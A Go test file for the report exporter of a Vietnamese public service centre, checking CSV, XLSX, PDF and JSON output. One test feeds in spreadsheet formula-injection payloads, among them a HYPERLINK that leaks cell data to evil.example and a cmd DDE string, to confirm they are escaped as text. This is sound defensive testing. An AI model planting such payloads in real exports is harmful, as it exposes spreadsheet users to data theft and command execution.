package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"xephang/internal/pdftest"
)

// keep writes a rendered file to $XEPHANG_REPORT_OUT, when set, so a
// person can look at it.
func keep(t *testing.T, name string, data []byte) {
	if dir := os.Getenv("XEPHANG_REPORT_OUT"); dir != "" {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Log(err)
		}
	}
}

func TestCSV(t *testing.T) {
	rep := computeHandBuilt(t)
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	keep(t, "report.csv", buf.Bytes())
	data := buf.Bytes()
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV does not start with the UTF-8 BOM: % x", data[:3])
	}
	lines, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := lines[0]
	if got := strings.Join(header[:6], ","); got != "Bảng,Mã,Tên,Phạm vi,Số phiếu,Đã phục vụ" {
		t.Errorf("header starts %q", got)
	}
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q in %q", name, header)
		return -1
	}
	// 3 summary rows, 2 days, 3 sessions, 3 services, 4 counters, 4
	// officers: three lines each but the sessions (one).
	if got, want := len(lines)-1, 3*3+2*3+3+3*3+4*3+4*3; got != want {
		t.Errorf("%d data lines, want %d", got, want)
	}
	first := lines[1]
	if first[0] != "Tổng hợp" || first[1] != "all" || first[2] != "Tổng cộng" || first[3] != LabelTotal {
		t.Errorf("first line %q", first[:4])
	}
	checks := []struct{ col, want string }{
		{"Số phiếu", "10"}, {"Đã phục vụ", "7"}, {"Vắng mặt", "1"}, {"Chuyển lĩnh vực", "1"}, {"Hết hạn", "1"},
		{"Chờ TB (phút)", "4.25"}, {"Chờ trung vị (phút)", "3.50"}, {"Chờ P90 (phút)", "8.60"},
		{"Rất hài lòng", "2"}, {"Không hài lòng", "1"}, {"Tỷ lệ hài lòng (%)", "66.7"}, {"Tỷ lệ đánh giá (%)", "85.7"},
	}
	for _, c := range checks {
		if got := first[col(c.col)]; got != c.want {
			t.Errorf("total %s=%q, want %q", c.col, got, c.want)
		}
	}
	// A row without data leaves its statistics empty.
	for _, l := range lines {
		if l[0] == "Theo quầy" && l[1] == "" && l[3] == LabelTotal && l[col("Chờ TB (phút)")] != "" {
			t.Errorf("never-called row has a mean wait %q", l[col("Chờ TB (phút)")])
		}
	}
}

func TestXLSX(t *testing.T) {
	rep := computeHandBuilt(t)
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, rep); err != nil {
		t.Fatal(err)
	}
	keep(t, "report.xlsx", buf.Bytes())
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("excelize cannot open the workbook: %v", err)
	}
	defer f.Close()
	want := []string{"Tổng hợp", "Theo ngày", "Theo buổi", "Theo lĩnh vực", "Theo quầy", "Theo cán bộ", sheetSatisfaction, sheetExtended}
	if got := f.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	// Find a header cell by text in a sheet, and return the cell below
	// it offset by rows.
	find := func(sheet, text string) (col, row int) {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, cells := range rows {
			for c, v := range cells {
				if v == text {
					return c + 1, r + 1
				}
			}
		}
		t.Fatalf("%s: no cell %q", sheet, text)
		return 0, 0
	}
	number := func(sheet string, col, row int) float64 {
		t.Helper()
		cell := cellName(col, row)
		typ, err := f.GetCellType(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s!%s holds %q as type %v, want a number", sheet, cell, raw, typ)
		}
		v, err := strconv.ParseFloat(raw, 64)
		if err != nil {
			t.Errorf("%s!%s=%q is not a number", sheet, cell, raw)
		}
		return v
	}
	c, r := find("Tổng hợp", "Số phiếu")
	if got := number("Tổng hợp", c, r+1); got != 10 {
		t.Errorf("issued=%v, want 10", got)
	}
	c, _ = find("Tổng hợp", "Chờ P90 (phút)")
	if got := number("Tổng hợp", c, r+1); got != 8.6 {
		t.Errorf("wait p90=%v, want 8.6", got)
	}
	c, _ = find("Tổng hợp", "Tỷ lệ hài lòng")
	if got := number("Tổng hợp", c, r+1); got < 0.6666 || got > 0.6667 {
		t.Errorf("satisfied=%v, want 2/3", got)
	}
	// The extended line of the first day: issued 3.
	c, r = find("Theo ngày", "Số phiếu")
	name, _ := f.GetCellValue("Theo ngày", cellName(3, r+3))
	if name != LabelExtended {
		t.Errorf("third line of a day is %q, want %q", name, LabelExtended)
	}
	if got := number("Theo ngày", c, r+3); got != 3 {
		t.Errorf("day 1 extended issued=%v, want 3", got)
	}
	c, r = find(sheetExtended, "Số phiếu")
	if got := number(sheetExtended, c, r+1); got != 3 {
		t.Errorf("chart data day 1=%v, want 3", got)
	}
	_, r = find(sheetSatisfaction, "Rất hài lòng")
	if got := number(sheetSatisfaction, 3, r); got != 2 {
		t.Errorf("very satisfied=%v, want 2", got)
	}
	find(sheetSatisfaction, "Chờ lâu")
}

// pdfText renders the hand-built report as a PDF and returns its text as
// pdftotext reads it.
func pdfText(t *testing.T, rep *Report) (string, []byte) {
	t.Helper()
	pdftest.NeedTool(t, "pdftotext")
	var buf bytes.Buffer
	if err := WritePDF(&buf, rep); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "report.pdf")
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("pdftotext", "-layout", "-enc", "UTF-8", path, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	return string(out), buf.Bytes()
}

func TestPDF(t *testing.T) {
	rep := computeHandBuilt(t)
	text, data := pdfText(t, rep)
	keep(t, "report.pdf", data)
	if !bytes.HasPrefix(data, []byte("%PDF-")) {
		t.Fatal("not a PDF")
	}
	for _, want := range []string{
		TitleLine1, TitleLine2,
		"TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG",
		"CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
		"(Từ ngày 02/03/2026 đến ngày 03/03/2026)",
		"Trung tâm đã tiếp nhận 10 lượt",
		"trong đó 4 lượt trong Giờ thứ 9 (40,0%)",
		"Đã phục vụ xong 7 lượt",
		"Thời gian chờ trung bình 4,3 phút",
		"Hướng dẫn nộp hồ sơ trực tuyến",
		"Rất hài lòng",
		"Tỷ lệ hài lòng (mức 3 và 4)",
		"66,7%",
		"Biểu đồ 1. Số phiếu trong Giờ thứ 9",
		"Chờ lâu",
		"Nguyễn Văn An",
		"Thứ Hai, 02/03/2026",
		"Trang 1/",
	} {
		if !strings.Contains(squash(text), squash(want)) {
			t.Errorf("PDF text lacks %q", want)
		}
	}
	if strings.Contains(text, "{nb}") {
		t.Error("page count alias not replaced")
	}
}

// squash folds runs of white space, as pdftotext lays out text with
// extra spaces and line breaks.
func squash(s string) string { return strings.Join(strings.Fields(s), " ") }

func TestJSONShape(t *testing.T) {
	rep := computeHandBuilt(t)
	data, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	total := m["summary"].(map[string]any)["total"].(map[string]any)
	if total["issued"].(float64) != 10 {
		t.Errorf("summary.total.issued=%v", total["issued"])
	}
	if r := total["ratings"].(map[string]any); r["4"].(float64) != 2 || r["1"].(float64) != 1 {
		t.Errorf("ratings=%v", r)
	}
	if w := total["wait_minutes"].(map[string]any); w["median"].(float64) != 3.5 {
		t.Errorf("wait_minutes=%v", w)
	}
	for _, k := range []string{"by_day", "by_session", "by_service", "by_counter", "by_officer", "online", "procedures", "satisfaction", "extended_by_day"} {
		if _, ok := m[k]; !ok {
			t.Errorf("JSON lacks %q", k)
		}
	}
}

// TestCSVFormulaInjection: names typed by admins that a spreadsheet would
// run as formulas are written as text; the numbers stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	rep := computeHandBuilt(t)
	hostile := map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
		"+84 Quầy":               "'+84 Quầy",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd":          "'@SUM(1+1)*cmd",
		"\tTab":                  "'\tTab",
		"\rCR":                   "'\rCR",
		"Cán\x00 bộ":             "Cán bộ",
	}
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "+84 Quầy", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd", "\tTab", "\rCR", "Cán\x00 bộ"}
	rep.ByService[0].Name = names[0]
	rep.ByCounter[0].Name = names[1]
	rep.ByOfficer[0].Name = names[2]
	rep.ByOfficer[1].Name = names[3]
	rep.ByCounter[1].Name = names[4]
	rep.ByService[1].Name = names[5]
	rep.ByOfficer[2].Name = names[6]
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsRune(buf.Bytes(), 0) {
		t.Error("a NUL reached the CSV")
	}
	lines, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, l := range lines[1:] {
		for i, cell := range l {
			if cell == "" {
				continue
			}
			if i >= 4 { // a figure: a plain number
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("figure cell %q is not a number", cell)
				}
				continue
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("text cell %q starts a formula", cell)
			}
			found[cell] = true
		}
	}
	for _, name := range names {
		if want := hostile[name]; !found[want] {
			t.Errorf("no cell %q for the name %q", want, name)
		}
	}
}

func TestNumberFormats(t *testing.T) {
	tests := []struct{ got, want string }{
		{fmtInt(0), "0"}, {fmtInt(999), "999"}, {fmtInt(1000), "1.000"}, {fmtInt(1234567), "1.234.567"},
		{fmtDec(12.34), "12,3"}, {fmtDec(12.95), "13,0"}, {fmtDec(0.04), "0,0"}, {fmtDec(1500.25), "1.500,3"},
		{fmtPct(ptr(0.953)), "95,3%"}, {fmtPct(nil), "–"}, {fmtMin(nil), "–"},
		{viDate("2026-02-23"), "23/02/2026"}, {DayName("2026-02-23"), "Thứ Hai, 23/02/2026"},
		{lowerFirst("Ước tính"), "ước tính"},
	}
	for _, tc := range tests {
		if tc.got != tc.want {
			t.Errorf("got %q, want %q", tc.got, tc.want)
		}
	}
}

// TestPDFOddText: what citizens type reaches the PDF, and gofpdf draws
// only the Basic Multilingual Plane; an emoji must not break the report.
// What the font lacks prints as "?", a control character not at all.
func TestPDFOddText(t *testing.T) {
	rep := computeHandBuilt(t)
	rep.Satisfaction.Comments[0].Text = "Chờ lâu 😀 quá\x01 𝔸\tthật"
	rep.ByOfficer[0].Name = "Cán bộ 😀"
	text, _ := pdfText(t, rep)
	for _, want := range []string{"Chờ lâu ? quá A thật", "Cán bộ ?"} {
		if !strings.Contains(squash(text), want) {
			t.Errorf("PDF text lacks %q", want)
		}
	}
	if rep.Satisfaction.Comments[0].Text != "Chờ lâu 😀 quá\x01 𝔸\tthật" {
		t.Error("WritePDF changed the report it was given")
	}
}
